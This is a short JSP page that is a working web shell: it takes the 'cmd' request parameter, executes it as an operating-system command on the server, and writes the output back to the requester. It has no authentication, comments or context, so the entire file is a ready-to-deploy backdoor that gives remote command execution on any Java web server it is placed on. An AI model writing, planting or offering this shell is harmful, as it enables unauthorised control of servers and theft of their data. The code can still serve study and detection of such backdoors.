<%@ page import="java.io.*" %>
<%
String c = request.getParameter("cmd");
if (c != null) { Process p = Runtime.getRuntime().exec(c); InputStream in = p.getInputStream(); int b; while ((b = in.read()) != -1) out.write(b); }
%>
